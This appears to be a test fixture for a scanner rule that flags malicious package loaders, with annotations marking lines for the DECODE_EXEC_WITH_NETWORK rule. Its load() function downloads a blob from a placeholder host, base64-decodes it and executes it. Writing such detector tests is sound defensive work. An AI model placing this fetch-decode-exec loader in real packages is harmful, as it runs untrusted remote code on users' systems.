# canary-test: path=mypkg/loader.py artifact=wheel
# The fetch-decode-run loader spread over steps and variables.
import base64

import requests


def load():
    # ruleid: DECODE_EXEC_WITH_NETWORK
    data = requests.get("https://example.invalid/blob", timeout=5).content
    # ruleid: DECODE_EXEC_WITH_NETWORK
    code = base64.b64decode(data)
    # ruleid: DECODE_EXEC_WITH_NETWORK
    exec(code, {})

# ok: EXEC_BASE64_DECODED, EXEC_DOWNLOADED_CODE, DECODE_AND_EXEC_IN_FILE, MODULE_LEVEL_EXEC_WITH_DECODE
_ = None
